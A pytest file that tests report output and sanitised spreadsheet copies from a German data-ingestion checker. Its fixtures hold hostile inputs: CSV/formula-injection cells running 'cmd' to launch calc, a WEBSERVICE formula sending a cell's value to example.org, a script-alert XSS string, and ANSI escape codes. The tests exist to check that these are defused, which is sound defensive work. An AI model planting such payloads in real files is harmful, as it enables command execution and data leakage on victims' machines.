"""Reports that programs read, judged by other people's readers; the marked workbook and the fixed copy."""

# ruff: noqa: E501

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from concurrent.futures import Executor
from functools import cache
from pathlib import Path
from typing import Any

import junitparser
import openpyxl
import pytest
from openpyxl.styles import Font
from rdflib import RDF, SH, Graph
from rich.console import Console
from sarif_pydantic import Sarif
from support import BASE, silent, some

from ingest import SourcePart
from ingest.checking import fixes
from ingest.checking.submission import Submitted, check
from ingest.files.grids import SheetLimits
from ingest.findings.findings import UnreadableError, column_letter
from ingest.pipeline.existing_records import Standing
from ingest.reports import pipelines, shacl, terminal
from ingest.reports.document import document
from ingest.reports.marked import AUTHOR, marked
from ingest.reports.view import view
from smartregion.web.checking import report

FILES = Path(__file__).parents[1] / "fixtures" / "submissions"
NAMES = sorted({path.name for path in FILES.iterdir() if path.is_file()} - {"index.toml", "make.py"})
KEYS = {"code", "severity", "source", "sheet", "row", "column", "header", "value", "message", "suggestion"}


@pytest.fixture(scope="module")
def sent(there: Standing, thread: Executor) -> Callable[[str], SourcePart]:
    @cache
    def of(name: str) -> SourcePart:
        return received(name, (FILES / name).read_bytes(), there, thread)

    return of


def received(name: str, content: bytes, there: Standing, thread: Executor) -> SourcePart:
    (part,) = check([Submitted(name, content)], there, SheetLimits(), thread, silent)
    return part


def marks(content: bytes) -> tuple[openpyxl.Workbook, dict[tuple[str, str], str]]:
    """The workbook, and the comments that the check made, by sheet and cell."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return book, {
        (sheet.title, cell.coordinate): cell.comment.text
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.comment and cell.comment.author == AUTHOR
    }


def has_formula(content: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return any(b"<f" in archive.read(name).replace(b"<font", b"") for name in archive.namelist() if "sheet" in name)


@pytest.mark.parametrize("name", NAMES)
def test_json_has_the_shape_of_the_interface(name: str, sent: Callable[[str], SourcePart]) -> None:
    part = sent(name)
    found = json.loads(json.dumps(document(part)))
    assert list(found) == ["conforms", "record_type", "records", "findings"]
    assert found["conforms"] is not any(finding["severity"] == "violation" for finding in found["findings"])
    assert isinstance(found["record_type"], str)
    assert all(set(finding) == KEYS and set(finding["message"]) == {"de", "en"} for finding in found["findings"])


def test_sarif_is_read_by_others(sent: Callable[[str], SourcePart]) -> None:
    parts = [sent(name) for name in NAMES]
    paths = [f"incoming/{name}" for name in NAMES]
    written = json.dumps(pipelines.sarif(parts, BASE, paths))
    (run,) = Sarif.model_validate_json(written).runs
    results = run.results or []
    assert len(results) == sum(len(part.findings) for part in parts)
    rules = [rule.id for rule in run.tool.driver.rules or []]
    assert rules == sorted(set(rules))
    for result, finding in zip(results, [finding for part in parts for finding in part.findings], strict=True):
        assert (result.rule_id, rules[result.rule_index or 0]) == (finding.code, finding.code)
        assert finding.message["de"] in (result.message.text or "")
    assert len({json.dumps(result["partialFingerprints"]) for result in json.loads(written)["runs"][0]["results"]}) > 50


def test_junit_is_read_by_others(sent: Callable[[str], SourcePart]) -> None:
    parts = [sent(name) for name in NAMES]
    suites = junitparser.JUnitXml.fromstring(pipelines.junit(parts))
    assert [suite.name for suite in suites] == NAMES
    for suite, part in zip(suites, parts, strict=True):
        failing = {(f.sheet, f.row) for f in part.findings if f.severity == "violation"}
        assert suite.failures == len(failing)
        assert suite.tests == len(list(suite))


def test_the_shacl_report_is_one(sent: Callable[[str], SourcePart]) -> None:
    for name in some(NAMES):
        part = sent(name)
        graph = Graph().parse(data=shacl.turtle([part], BASE), format="turtle")
        (node,) = graph.subjects(RDF.type, SH.ValidationReport)
        assert graph.value(node, SH.conforms).toPython() is (part.findings == [])
        results = list(graph.objects(node, SH.result))
        assert len(results) == len(part.findings)
        for result in results:
            for needed in (SH.focusNode, SH.resultSeverity, SH.sourceConstraintComponent):
                assert len(list(graph.objects(result, needed))) == 1
            assert {text.language for text in graph.objects(result, SH.resultMessage)} == {"de", "en"}


def test_reports_are_the_same_every_time(there: Standing, thread: Executor) -> None:
    def all_of_them() -> list[Any]:
        part = received("placeholders.xlsx", (FILES / "placeholders.xlsx").read_bytes(), there, thread)
        content = (FILES / "placeholders.xlsx").read_bytes()
        reports = [shacl.turtle([part], BASE), pipelines.junit([part]), pipelines.sarif([part], BASE, ["x"])]
        copies = [marked(part, content, SheetLimits()), fixes.fixed(part, content, SheetLimits())[0]]
        return [*reports, *copies, document(part), report.render([view(part, 100)], "de")]

    assert all_of_them() == all_of_them()


def test_the_terminal_is_told_in_both_languages_and_obeys_no_file(there: Standing, thread: Executor) -> None:
    part = received("x\x1b[31m.csv", b"Kennung;Titel (deutsch);Federf\xfchrung\na;b;\x1b[2J\n", there, thread)
    console = Console(file=io.StringIO(), width=200)
    terminal.show([part], console)
    told = console.file.getvalue()  # type: ignore[attr-defined]
    assert "\x1b" not in told
    assert "Zeile / row 2" in told
    assert "ist in „Federführung“ nicht bekannt" in told
    assert "is not known in “Federführung”" in told


@pytest.mark.parametrize("language", ["de", "en"])
def test_the_page_shows_each_finding_at_its_cell_and_escapes_what_it_shows(
    language: str, there: Standing, thread: Executor
) -> None:
    content = 'Kennung;Titel (deutsch);Federführung\na;"<script>alert(1)</script>";<b>x</b>\n'.encode()
    part = received("<i>.csv", content, there, thread)
    page = report.render([view(part, 100)], language)
    assert f'<html lang="{language}">' in page
    assert "<script>" not in page
    assert "<b>x" not in page
    assert "<i>" not in page
    assert 'id="cell-1--C2" class="violation"' in page
    assert 'href="#cell-1--C2"' in page
    assert ("Fehler" in page, "Error" in page) == (language == "de", language == "en")


def test_of_many_rows_those_with_findings_are_shown(there: Standing, thread: Executor) -> None:
    rows = "".join(f"p-{n};P;{'Hanua' if n == 90 else 'Hanau'}\n" for n in range(100))
    part = received("many.csv", f"Kennung;Titel (deutsch);Federführung\n{rows}".encode(), there, thread)
    (table,) = view(part, 10)["tables"]
    assert [row["row"] for row in table["rows"]] == [2, 3, 4, 5, 6, 7, 8, 9, 10, 92]
    assert table["records"] == 100


@pytest.mark.parametrize("name", NAMES)
def test_each_bad_cell_is_marked_and_listed(name: str, sent: Callable[[str], SourcePart]) -> None:
    part, content = sent(name), (FILES / name).read_bytes()
    if not part.tables:
        return
    written = marked(part, content, SheetLimits())
    book, comments = marks(written)
    assert not has_formula(written)
    shift = 1 if name.endswith(".json") else 0
    first = book.sheetnames[1]
    expected: dict[tuple[str, str], list[str]] = {}
    for finding in part.findings:
        if finding.row is not None:
            place = (finding.sheet or first, f"{finding.column or 'A'}{finding.row + shift}")
            expected.setdefault(place, []).append(finding.message["de"])
    assert comments.keys() == expected.keys()
    for (sheet, cell), messages in expected.items():
        assert all(message in comments[sheet, cell] for message in messages)
        assert book[sheet][cell].fill.fgColor.rgb in ("00FFC7CE", "00FFEB9C", "00DDEBF7")
    listed = [[cell.value for cell in row] for row in book["Prüfbericht"].iter_rows(min_row=6)]
    assert [(row[5], row[8]) for row in listed if row[5]] == [(f.message["de"], f.code) for f in part.findings]


def dressed() -> bytes:
    """A workbook with styles, a second sheet, a comment, a macro, a picture, a formula and a name that is a formula."""
    book = openpyxl.load_workbook(FILES / "placeholders.xlsx")
    sheet = book["Projekte"]
    sheet["A1"].font = Font(bold=True, color="FF00AA00")
    sheet.column_dimensions["B"].width = 33
    sheet["B2"].comment = openpyxl.comments.Comment("schon da", "Sachbearbeiterin")
    sheet["H2"].comment = openpyxl.comments.Comment("auch schon da", "Sachbearbeiterin")
    notes = book.create_sheet("Notizen")
    notes["A1"] = "unberührt"
    notes["A1"].number_format = "0.00"
    notes["B2"] = '=WEBSERVICE("http://example.org/?"&A1)'
    notes["B3"] = "=cmd|' /C calc'!A0"
    book.defined_names["boese"] = openpyxl.workbook.defined_name.DefinedName(
        "boese", attr_text='WEBSERVICE("http://example.org")'
    )
    book.defined_names["gut"] = openpyxl.workbook.defined_name.DefinedName("gut", attr_text="Notizen!$A$1")
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
        archive.writestr("xl/media/image1.png", b"\x89PNG")
    return buffer.getvalue()


def test_what_a_workbook_keeps_and_what_it_does_not(there: Standing, thread: Executor) -> None:
    content = dressed()
    part = received("dressed.xlsm", content, there, thread)
    for written in (marked(part, content, SheetLimits()), fixes.fixed(part, content, SheetLimits())[0]):
        book = openpyxl.load_workbook(io.BytesIO(written))
        sheet, notes = book["Projekte"], book["Notizen"]
        assert sheet["A1"].font.bold
        assert sheet["A1"].font.color.rgb == "FF00AA00"
        assert sheet.column_dimensions["B"].width == 33
        assert sheet["B2"].comment.text == "schon da"
        assert (notes["A1"].value, notes["A1"].number_format) == ("unberührt", "0.00")
        assert list(book.defined_names) == ["gut"]
        assert not has_formula(written)
        # Without a stored result, a formula stays readable as text.
        assert (notes["B2"].data_type, notes["B2"].value[:12]) == ("s", "=WEBSERVICE(")
        assert (notes["B3"].data_type, notes["B3"].quotePrefix) == ("s", True)
        with zipfile.ZipFile(io.BytesIO(written)) as archive:
            assert not any("vba" in name or "media" in name for name in archive.namelist())
    book, comments = marks(marked(part, content, SheetLimits()))
    assert "auch schon da" in comments["Projekte", "H2"]
    assert "Makros, Bilder" in book["Prüfbericht"]["A3"].value


def test_marking_again_replaces_the_marks(there: Standing, thread: Executor) -> None:
    content = (FILES / "placeholders.xlsx").read_bytes()
    first = marked(received("a.xlsx", content, there, thread), content, SheetLimits())
    again = received("a.xlsx", first, there, thread)
    assert [f.code for f in again.findings if f.code != "sheet-skipped"] == [
        f.code for f in received("a.xlsx", content, there, thread).findings
    ]
    book, comments = marks(marked(again, first, SheetLimits()))
    assert book.sheetnames == ["Prüfbericht", "Projekte"]
    assert comments == marks(first)[1]
    mended = openpyxl.load_workbook(io.BytesIO(first))
    for cell, value in (("D2", ""), ("H2", ""), ("C3", "Hanau"), ("E3", "Smart Mobility"), ("F4", "")):
        mended["Projekte"][cell] = value
    buffer = io.BytesIO()
    mended.save(buffer)
    part = received("a.xlsx", buffer.getvalue(), there, thread)
    book, comments = marks(marked(part, buffer.getvalue(), SheetLimits()))
    assert comments == {}
    assert book["Projekte"]["C3"].fill.fill_type is None


@pytest.mark.parametrize("name", NAMES)
def test_a_fixed_copy_has_nothing_left_to_suggest_and_nothing_new(
    name: str, sent: Callable[[str], SourcePart], there: Standing, thread: Executor
) -> None:
    part, content = sent(name), (FILES / name).read_bytes()
    if not part.tables:
        return
    copy, changes = fixes.fixed(part, content, SheetLimits())
    assert [change[0] for change in changes] == [f for f in part.findings if f.suggestion is not None]
    assert not (copy.startswith(b"PK") and has_formula(copy))
    suffix = fixes.suffix(part, content)
    assert suffix == ("csv" if name.endswith(".csv") and not name.startswith("xlsx") else "xlsx")
    again = received(f"copy.{suffix}", copy, there, thread)
    assert [f for f in again.findings if f.suggestion is not None] == []
    shift = 1 if name.endswith(".json") else 0
    before = {(f.row + shift if f.row else None, f.column) for f in part.findings if f.severity == "violation"}
    assert {(f.row, f.column) for f in again.findings if f.severity == "violation"} <= before
    assert again.records == part.records
    # A copy of the copy is the copy.
    assert fixes.fixed(again, copy, SheetLimits())[0] == copy


def test_a_suggestion_for_one_of_several_values_leaves_the_others(there: Standing, thread: Executor) -> None:
    content = 'Kennung;Titel (deutsch);Federführung;Partner\na;A;Fulda;"Maintal; 6435014 ;k. A.; 06635005"\n'.encode()
    part = received("a.csv", content, there, thread)
    copy, changes = fixes.fixed(part, content, SheetLimits())
    assert {finding.value: new for finding, new in changes} == {
        "06635005": "06635001",
        "6435014": "06415000",
        "k. A.": "",
    }
    assert "Maintal; 06415000; 06635001" in copy.decode("utf-8-sig")


def test_no_cell_of_a_copy_is_a_formula(there: Standing, thread: Executor) -> None:
    """Cells that a spreadsheet program would evaluate, in CSV and in XLSX; negative numbers and dashes stay as they are."""
    evil = [
        '=HYPERLINK("http://example.org")',
        "+1+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "-2+3",
        "-12,5",
        "+49 6181 295-0",
    ]
    header = "Kennung;Titel (deutsch);Federführung;Anmerkung\r\n"
    quoted = [cell.replace('"', '""') for cell in evil]
    rows = "".join(f'p-{n};"{cell}";Hanau;"{cell}"\r\n' for n, cell in enumerate(quoted))
    content = (header + rows).encode()
    part = received("evil.csv", content, there, thread)
    copy = fixes.fixed(part, content, SheetLimits())[0].decode("utf-8-sig")
    for line in copy.splitlines()[1:]:
        cell = line.split(";")[1].strip('"')
        assert cell[0] in "'" or cell in ("-12,5", "+49 6181 295-0")
    again = received("again.csv", copy.encode(), there, thread)
    assert [f.code for f in again.findings] == [f.code for f in part.findings]
    assert again.tables[0].table.column(1) == [cell.strip() for cell in evil]
    assert not has_formula(marked(part, content, SheetLimits()))
    book = openpyxl.load_workbook(io.BytesIO(marked(part, content, SheetLimits())))
    assert [book.worksheets[1].cell(row, 2).data_type for row in range(2, 9)] == ["s"] * 7


def test_rdf_and_what_is_no_table_have_no_copies(there: Standing, thread: Executor) -> None:
    for name, content in (("a.ttl", b"<a> a <b> ."), ("report.xlsx", (FILES / "report.xlsx").read_bytes())):
        part = received(name, content, there, thread)
        for make in (marked, fixes.fixed):
            with pytest.raises(UnreadableError, match="not a table"):
                make(part, content, SheetLimits())


def test_letters_of_columns_beyond_z(there: Standing, thread: Executor) -> None:
    header = ["Kennung", "Titel (deutsch)", *[f"x{n}" for n in range(30)], "Federführung"]
    content = (";".join(header) + "\na;A" + ";" * 31 + "Hanua\n").encode()
    part = received("wide.csv", content, there, thread)
    (finding,) = [f for f in part.findings if f.severity == "violation"]
    assert finding.column == column_letter(32) == "AG"
    assert ("Tabelle", "AG2") in marks(marked(part, content, SheetLimits()))[1]
